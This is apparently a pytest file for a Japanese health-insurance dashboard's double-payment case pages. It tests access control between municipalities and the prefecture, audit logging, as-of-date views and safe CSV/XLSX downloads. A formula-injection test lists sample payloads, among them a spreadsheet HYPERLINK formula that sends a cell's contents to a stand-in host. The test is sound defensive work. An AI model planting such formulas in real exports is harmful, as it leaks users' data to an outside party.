"""The 二重払い・資格適正化 page: P's worked case of docs/boundary.md (tests/boundarycases.py)
as the municipal staff see it, the case detail and its notices, each person-level read in the
hash-chained audit log; another municipality's staff and the prefecture staff cannot open it
(the prefecture sees the counts). On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import unquote

import lxml.html
import openpyxl
import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient

from kokuho.boundary import Evidence, decide, judge, open_cases, record_loss
from kokuho.boundary import tables as bt
from kokuho.config import Settings
from kokuho.ids import with_check_digit
from kokuho.registry import load_insurers
from kokuho.registry import tables as r
from kokuho.store import connect
from kokuho.web import create_app
from kokuho.web.dashboard import add_user
from tests.boundarycases import (
    EMPLOYEE_ACQUIRED,
    EMPLOYEE_DECIDED,
    TOWN,
    YEARS,
    Audit,
    build_town,
    enrol_employee,
)
from tests.dashsite import MUNICIPAL, PASSWORD, PREFECTURE, audit_rows, sign_in
from tests.feedfiles import KOKUHO, write_csv
from tests.test_dashboard_faults import assert_fault_page

CLERK = "高松市保険年金課 田中"
OTHER = "mg-boundary"  # 丸亀市 staff
MARUGAME = with_check_digit("37002")
DAY = dt.date(2023, 5, 15)
#: P's three years, paid in full, all returned on the no-fault judgement (docs/boundary.md).
TOTAL = sum(YEARS.values())


def _build(
    database_url: str, tmp_path: Path, mynumber_key: bytes, *, decided: bool
) -> Iterator[tuple[TestClient, sa.Engine, int]]:
    engine = connect(database_url)
    build_town(engine, tmp_path, mynumber_key)
    add_user(engine, MUNICIPAL, PASSWORD, role="municipal", insurer_number=KOKUHO)
    add_user(engine, PREFECTURE, PASSWORD, role="prefecture")
    enrol_employee(engine, tmp_path)
    row = {"insurer_number": MARUGAME, "name": "丸亀市国民健康保険", "kind": "kokuho_municipal",
           "municipality_code": "372021"}  # fmt: skip
    load_insurers(engine, write_csv(tmp_path / "marugame.csv", list(row), [row]))
    add_user(engine, OTHER, PASSWORD, role="municipal", insurer_number=MARUGAME)
    audit = Audit()
    [case] = open_cases(engine, TOWN, dt.date(2023, 5, 1), actor=CLERK, audit=audit)
    record_loss(engine, case.case_id, dt.date(2023, 5, 1), tmp_path / "feed", actor=CLERK,
                audit=audit)  # fmt: skip
    if decided:
        evidence = Evidence("資格決定通知書", EMPLOYEE_ACQUIRED, EMPLOYEE_DECIDED, "日本年金機構")
        judge(engine, case.case_id, dt.date(2023, 5, 10), no_fault=True, evidence=evidence,
              actor=CLERK, audit=audit)  # fmt: skip
        decide(engine, case.case_id, DAY, actor=CLERK, audit=audit)
    secrets = tmp_path / "secrets"
    settings = Settings(tmp_path, database_url, secrets / "mynumber.key", secrets / "service.key")
    with TestClient(create_app(settings)) as client:
        yield client, engine, case.case_id
    engine.dispose()


@pytest.fixture
def site(
    database_url: str, tmp_path: Path, mynumber_key: bytes
) -> Iterator[tuple[TestClient, sa.Engine, int]]:
    yield from _build(database_url, tmp_path, mynumber_key, decided=True)


@pytest.fixture
def undecided(
    database_url: str, tmp_path: Path, mynumber_key: bytes
) -> Iterator[tuple[TestClient, sa.Engine, int]]:
    yield from _build(database_url, tmp_path, mynumber_key, decided=False)


def _csv(client: TestClient, path: str, table: str) -> list[dict[str, str]]:
    answer = client.get(f"{path}?download={table}&format=csv")
    assert answer.status_code == 200, answer.text[:300]
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))


def _records(engine: sa.Engine, action: str) -> list[tuple[str, str, dict[str, object]]]:
    return [
        (
            row.actor,
            row.outcome,
            json.loads(row.detail) if isinstance(row.detail, str) else row.detail,
        )
        for row in audit_rows(engine, action=action)
    ]


def test_the_municipality_sees_its_case_with_months_amounts_limit_and_step(
    site: tuple[TestClient, sa.Engine, int],
) -> None:
    client, engine, case_id = site
    assert sign_in(client, MUNICIPAL).status_code == 303
    answer = client.get("/boundary")
    assert answer.status_code == 200
    document = lxml.html.fromstring(answer.text)
    assert document.xpath("//h1/text()") == ["二重払い・資格適正化"]
    [link] = document.xpath("//table[@data-table='boundary-cases']//a/@href")
    assert link == f"/boundary/cases/{case_id}"
    [row] = _csv(client, "/boundary", "boundary-cases")
    assert row["氏名"] == "讃岐 一郎"
    assert row["資格取得日"] == "2020-04-01" and row["資格決定日"] == "2023-04-20"
    # FY2020–2022 on 国保 while 協会けんぽ covered them: 36 months, all of P's premium.
    assert row["重複月数"] == "36" and row["重複月"] == "2020年4月～2023年3月（36か月）"
    assert row["重複月の保険料"] == str(TOTAL) == "1047300"
    # Judged today (long after 2024-07-01) every year is beyond the §110-2(1) limit.
    assert row["賦課決定の期間制限"].startswith("2020年度・2021年度・2022年度 期間制限経過")
    assert row["進捗"] == "③ 減額賦課決定済"
    assert row["減額"] == row["還付"] == "1047300"
    listed = _records(engine, "boundary_list")
    assert [(a, o) for a, o, _ in listed] == [
        (f"dashboard:{MUNICIPAL}", "shown"),
        (f"dashboard:{MUNICIPAL}", "downloaded:csv"),
    ]


def test_the_case_detail_and_its_notices_are_audited(
    site: tuple[TestClient, sa.Engine, int],
) -> None:
    client, engine, case_id = site
    assert sign_in(client, MUNICIPAL).status_code == 303
    answer = client.get(f"/boundary/cases/{case_id}")
    assert answer.status_code == 200
    document = lxml.html.fromstring(answer.text)
    steps = document.xpath("//table[@data-table='case-steps']//td[@data-key='step']/text()")
    assert [s.strip() for s in steps] == ["① 資格喪失", "② 判断", "③ 減額賦課決定・還付"]
    years = _csv(client, f"/boundary/cases/{case_id}", "case-reduction")
    assert [(y["年度"], y["減額"]) for y in years] == [
        (f"{year}年度", str(amount)) for year, amount in YEARS.items()
    ]
    # FY2020's limit (2022-07-01) had passed on 2023-05-15: 第2項; the others 第1項.
    assert [y["根拠"][-6:] for y in years] == ["条の2第2項", "条の2第1項", "条の2第1項"]
    hrefs = document.xpath("//p[@class='notices']/a/@href")
    assert hrefs == [f"/boundary/cases/{case_id}/notices/reduction",
                     f"/boundary/cases/{case_id}/notices/refund"]  # fmt: skip
    notice = client.get(hrefs[0])
    assert notice.status_code == 200
    assert "<h1>国民健康保険料減額賦課決定通知書</h1>" in notice.text
    assert "1,047,300円" in notice.text and "<script" not in notice.text
    # Its print CSS is inline: allowed for this page only, and nothing else is.
    assert notice.headers["content-security-policy"].startswith("default-src 'none'; style-src")
    refund = client.get(hrefs[1])
    assert refund.status_code == 200 and "還付通知書" in refund.text
    assert [a for a, _, _ in _records(engine, "boundary_case")] == [f"dashboard:{MUNICIPAL}"] * 2
    notices = _records(engine, "boundary_notice")
    assert [d["kind"] for _, _, d in notices] == ["reduction", "refund"]


def test_another_municipality_cannot_open_the_case_or_its_notices(
    site: tuple[TestClient, sa.Engine, int],
) -> None:
    client, engine, case_id = site
    assert sign_in(client, OTHER).status_code == 303
    assert _csv(client, "/boundary", "boundary-cases") == []
    for path in (
        f"/boundary/cases/{case_id}",
        f"/boundary/cases/{case_id}/notices/reduction",
        f"/boundary/cases/{case_id}?download=case-years&format=csv",
    ):
        answer = client.get(path)
        # Answered as a case number that is free: a 403 said that the case exists.
        assert answer.status_code == 404, path
        assert f"事案 {case_id} はありません" in answer.text, path
        assert "讃岐" not in answer.text
    assert not _records(engine, "boundary_case") and not _records(engine, "boundary_notice")
    refused = [r for r in audit_rows(engine, outcome="refused:other_insurer")]
    assert len(refused) == 3
    free = client.get("/boundary/cases/999")
    assert free.status_code == 404 and "事案 999 はありません" in free.text
    assert client.get("/boundary/cases/abc").status_code == 400
    assert client.get(f"/boundary/cases/{case_id}/notices/other").status_code == 404


def test_the_prefecture_sees_counts_only(site: tuple[TestClient, sa.Engine, int]) -> None:
    client, engine, case_id = site
    assert sign_in(client, PREFECTURE).status_code == 303
    rows = {r["団体コード"]: r for r in _csv(client, "/boundary", "boundary-counts")}
    assert rows["372013"]["事案"] == "1" and rows["372013"]["重複月数"] == "36"
    assert rows["372013"]["重複月の保険料"] == str(TOTAL)
    assert rows["372013"]["③ 減額賦課決定済"] == "1" and rows["372013"]["未着手"] == "0"
    assert rows["372021"]["事案"] == "0"
    page = client.get("/boundary").text
    assert "讃岐" not in page and "boundary-cases" not in page
    assert client.get(f"/boundary/cases/{case_id}").status_code == 403
    assert not _records(engine, "boundary_list")


def test_a_case_at_step_one_has_no_notice(
    undecided: tuple[TestClient, sa.Engine, int],
) -> None:
    client, engine, case_id = undecided
    assert sign_in(client, MUNICIPAL).status_code == 303
    [row] = _csv(client, "/boundary", "boundary-cases")
    assert row["進捗"] == "① 資格喪失済" and row["減額"] == row["還付"] == ""
    document = lxml.html.fromstring(client.get(f"/boundary/cases/{case_id}").text)
    assert not document.xpath("//p[@class='notices']")
    for kind in ("reduction", "refund"):
        answer = client.get(f"/boundary/cases/{case_id}/notices/{kind}")
        assert answer.status_code == 404 and "作成できません" in answer.text
        # The reason in the staff's words, not the boundary room's English CaseError.
        [reason] = lxml.html.fromstring(answer.text).xpath("//main//p[1]/text()")
        assert "減額賦課決定がまだ" in reason and "no notice" not in reason, reason
    assert not _records(engine, "boundary_notice")


#: Synthetic names a spreadsheet would read as a formula (CSV / formula injection).
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"確認")', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1+1")  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS, ids=["eq", "plus", "minus", "at", "tab"])
def test_downloads_do_not_carry_formulas(
    site: tuple[TestClient, sa.Engine, int], formula: str
) -> None:
    """A synthetic name starting with =, +, -, @ (or a tab) is text in the CSV (quoted with an
    apostrophe, as spreadsheets show it) and a text cell in the workbook, never a formula."""
    client, engine, case_id = site
    with engine.begin() as connection:
        connection.execute(sa.update(r.persons).values(name_kanji=formula))
    assert sign_in(client, MUNICIPAL).status_code == 303
    [row] = _csv(client, "/boundary", "boundary-cases")
    assert row["氏名"] == "'" + formula
    # Figures stay numbers: only text is quoted.
    assert row["重複月の保険料"] == "1047300" and row["事案番号"] == str(case_id)
    answer = client.get("/boundary?download=boundary-cases&format=xlsx")
    assert answer.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
    assert sheet is not None
    header = [cell.value for cell in sheet[2]]
    cell = sheet.cell(row=3, column=header.index("氏名") + 1)
    assert (cell.value, cell.data_type) == (formula, "s")


def test_a_download_names_its_file_in_japanese_with_every_byte_encoded(
    site: tuple[TestClient, sa.Engine, int],
) -> None:
    """The file name is the table's caption (RFC 6266 filename*): a place name holding "/"
    (a path separator, not an RFC 8187 attr-char) is percent-encoded like the kanji."""
    client, engine, _ = site
    with engine.begin() as connection:
        connection.execute(
            sa.update(r.insurers)
            .where(r.insurers.c.insurer_number == KOKUHO)
            .values(name="高松市/東 国民健康保険")
        )
    assert sign_in(client, MUNICIPAL).status_code == 303
    answer = client.get("/boundary?download=boundary-cases&format=csv")
    assert answer.status_code == 200
    plain, extended = answer.headers["content-disposition"].split("; filename*=UTF-8''")
    assert plain == 'attachment; filename="boundary-cases.csv"'
    assert re.fullmatch(r"[A-Za-z0-9%._~-]+", extended), extended
    assert unquote(extended) == "高松市/東  二重払い事案の一覧.csv"


def test_only_a_download_of_persons_is_recorded_as_one(
    site: tuple[TestClient, sa.Engine, int],
) -> None:
    """The counts' download shows no person and a table the page does not have is a 404: no
    record says P's case was downloaded (a person's access history must not read so)."""
    client, engine, case_id = site
    assert sign_in(client, MUNICIPAL).status_code == 303
    assert _csv(client, "/boundary", "boundary-counts")[0]["団体コード"] == "372013"
    assert client.get("/boundary?download=no-such-table").status_code == 404
    assert client.get(f"/boundary/cases/{case_id}?download=no-such-table").status_code == 404
    assert not _records(engine, "boundary_list") and not _records(engine, "boundary_case")
    _csv(client, f"/boundary/cases/{case_id}", "case-years")
    _csv(client, "/boundary", "boundary-cases")
    assert [(a, o) for a, o, _ in _records(engine, "boundary_case")] == [
        (f"dashboard:{MUNICIPAL}", "downloaded:csv")
    ]
    assert [(a, o) for a, o, _ in _records(engine, "boundary_list")] == [
        (f"dashboard:{MUNICIPAL}", "downloaded:csv")
    ]


def test_a_step_the_page_cannot_read_is_a_japanese_500_without_its_text(
    site: tuple[TestClient, sa.Engine, int],
) -> None:
    """A recorded step whose detail the page cannot read (a 還付請求の期限 that is no date,
    here the person's name) is a fault of the server: the dashboard's Japanese 500 page,
    without the fault's text. It was the API's English 422 problem+json carrying the
    ValueError's text, and so the name, to the browser."""
    client, engine, case_id = site
    steps = bt.boundary_case_steps
    with engine.begin() as connection:
        [(step_id, detail)] = connection.execute(
            sa.select(steps.c.step_id, steps.c.detail).where(
                steps.c.case_id == case_id, steps.c.step == "reduction"
            )
        ).all()
        broken = json.loads(detail) | {"last_claim_day": "讃岐花子"}
        connection.execute(
            steps.update().where(steps.c.step_id == step_id).values(detail=json.dumps(broken))
        )
    assert sign_in(client, MUNICIPAL).status_code == 303
    assert_fault_page(client.get(f"/boundary/cases/{case_id}"), "讃岐花子", "isoformat")


# -- 基準日 (?on=): the pages as the cases stood that day ----------------------------------

#: After ② (2023-05-10), before ③ (2023-05-15); FY2020's limit (2022-07-01) had passed.
JUDGED = dt.date(2023, 5, 12)


def test_the_list_and_the_counts_are_as_of_the_day_asked(
    site: tuple[TestClient, sa.Engine, int],
) -> None:
    client, engine, case_id = site
    assert sign_in(client, MUNICIPAL).status_code == 303
    answer = client.get(f"/boundary?on={JUDGED}")
    assert answer.status_code == 200
    document = lxml.html.fromstring(answer.text)
    [label] = document.xpath("//p[@class='asof']/text()")
    assert label.strip() == "令和5年5月12日 (2023-05-12) 現在"
    [picked] = document.xpath("//form[@class='day-picker']//input[@name='on']/@value")
    assert picked == "2023-05-12"
    # The case opens as of the same day.
    [link] = document.xpath("//table[@data-table='boundary-cases']//a/@href")
    assert link == f"/boundary/cases/{case_id}?on=2023-05-12"
    download = client.get(f"/boundary?on={JUDGED}&download=boundary-cases&format=csv")
    assert download.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(download.content.decode("utf-8-sig"))))
    assert row["進捗"] == "② 無過失等の判断済" and row["減額"] == row["還付"] == ""
    assert row["賦課決定の期間制限"].startswith("2020年度 期間制限経過")
    # The file's name says which day it shows.
    disposition = unquote(download.headers["content-disposition"])
    assert "二重払い事案の一覧 (令和5年5月12日現在).csv" in disposition
    [counts] = _csv_of(client, f"/boundary?on={JUDGED}", "boundary-counts")
    assert counts["② 無過失等の判断済"] == "1" and counts["③ 減額賦課決定済"] == "0"
    assert counts["期間制限経過の年度を含む事案"] == "1"
    # Before the case was opened (2023-05-01) there was none.
    before = client.get("/boundary?on=2023-04-30&download=boundary-cases&format=csv")
    assert before.status_code == 200
    assert list(csv.DictReader(io.StringIO(before.content.decode("utf-8-sig")))) == []
    # Without ?on= the page is as of today, and says so.
    today = lxml.html.fromstring(client.get("/boundary").text)
    assert (
        today.xpath("//p[@class='asof']/text()")[0]
        .strip()
        .endswith(f"({dt.date.today().isoformat()}) 現在")
    )
    shown = [d["municipality"] for _, _, d in _records(engine, "boundary_list")]
    assert shown == [TOWN] * 4


def test_the_prefecture_counts_are_as_of_the_day_asked(
    site: tuple[TestClient, sa.Engine, int],
) -> None:
    client, _, _ = site
    assert sign_in(client, PREFECTURE).status_code == 303
    rows = {
        r["団体コード"]: r for r in _csv_of(client, f"/boundary?on={JUDGED}", "boundary-counts")
    }
    assert rows[TOWN]["事案"] == "1" and rows[TOWN]["② 無過失等の判断済"] == "1"
    assert rows[TOWN]["③ 減額賦課決定済"] == "0"
    rows = {
        r["団体コード"]: r for r in _csv_of(client, "/boundary?on=2023-04-30", "boundary-counts")
    }
    assert rows[TOWN]["事案"] == "0" and rows[TOWN]["重複月数"] == "0"


def test_a_case_is_shown_as_it_stood_on_the_day_asked(
    site: tuple[TestClient, sa.Engine, int],
) -> None:
    client, engine, case_id = site
    assert sign_in(client, MUNICIPAL).status_code == 303
    answer = client.get(f"/boundary/cases/{case_id}?on={JUDGED}")
    assert answer.status_code == 200
    document = lxml.html.fromstring(answer.text)
    [label] = document.xpath("//p[@class='asof']/text()")
    assert label.strip() == "令和5年5月12日 (2023-05-12) 現在"
    steps = document.xpath("//table[@data-table='case-steps']//td[@data-key='step']/text()")
    assert [s.strip() for s in steps] == ["① 資格喪失", "② 判断"]
    # Not decided yet on that day: no notice, no 減額賦課決定.
    assert not document.xpath("//p[@class='notices']")
    assert not document.xpath("//table[@data-table='case-reduction']")
    [back] = document.xpath("//a[contains(., '事案一覧へ戻る')]/@href")
    assert back == "/boundary?on=2023-05-12#cases"
    years = {
        y["年度"][-8:]: y["基準日の期間制限"]
        for y in _csv_of(client, f"/boundary/cases/{case_id}?on={JUDGED}", "case-years")
    }
    assert years == {
        "(2020年度)": "経過 (§110-2(2)のみ)",
        "(2021年度)": "期間内 (§110-2(1))",
        "(2022年度)": "期間内 (§110-2(1))",
    }
    # Before it was opened: answered as no case that day, and nobody's case was read.
    early = client.get(f"/boundary/cases/{case_id}?on=2023-04-30")
    assert early.status_code == 404
    assert f"事案 {case_id} は令和5年4月30日 (2023-04-30) にはまだありません" in early.text
    assert "讃岐" not in early.text
    assert [o for _, o, _ in _records(engine, "boundary_case")] == ["shown", "downloaded:csv"]


def _csv_of(client: TestClient, path: str, table: str) -> list[dict[str, str]]:
    answer = client.get(f"{path}&download={table}&format=csv")
    assert answer.status_code == 200, answer.text[:300]
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))


#: ?on= values that are no day the pages can show: each a 400 naming `on`.
BAD_DAYS = {
    "future": "2099-01-01",
    "full-width": "２０２３-０５-１２",
    "nul": "2023-05-12\x00",
    "huge": "9" * 30,
    "no-such-day": "2023-02-30",
    "one-digit-month": "2023-5-12",
    "basic-form": "20230512",
    "week-date": "2023-W19-5",
    "before-2000": "1999-12-31",
    "negative": "-2023-05-12",
    "spaces": " 2023-05-12",
}


@pytest.mark.parametrize("value", list(BAD_DAYS.values()), ids=list(BAD_DAYS))
def test_a_bad_day_is_a_400_naming_on_and_reads_nothing(
    site: tuple[TestClient, sa.Engine, int], value: str
) -> None:
    client, engine, case_id = site
    assert sign_in(client, MUNICIPAL).status_code == 303
    for path in ("/boundary", f"/boundary/cases/{case_id}"):
        answer = client.get(path, params={"on": value})
        assert answer.status_code == 400, (path, answer.text[:300])
        [reason] = lxml.html.fromstring(answer.text).xpath("//*[@role='alert']/text()")
        assert reason.startswith("on: "), reason
        assert "讃岐" not in answer.text
    assert not _records(engine, "boundary_list") and not _records(engine, "boundary_case")


def test_tomorrow_is_refused_and_today_is_shown(site: tuple[TestClient, sa.Engine, int]) -> None:
    client, _, case_id = site
    assert sign_in(client, MUNICIPAL).status_code == 303
    today = dt.date.today()
    answer = client.get(f"/boundary?on={today + dt.timedelta(days=1)}")
    assert answer.status_code == 400 and "本日" in answer.text
    assert client.get(f"/boundary?on={today}").status_code == 200
    assert client.get(f"/boundary/cases/{case_id}?on={today}").status_code == 200
    assert client.get("/boundary?on=").status_code == 200  # empty: today
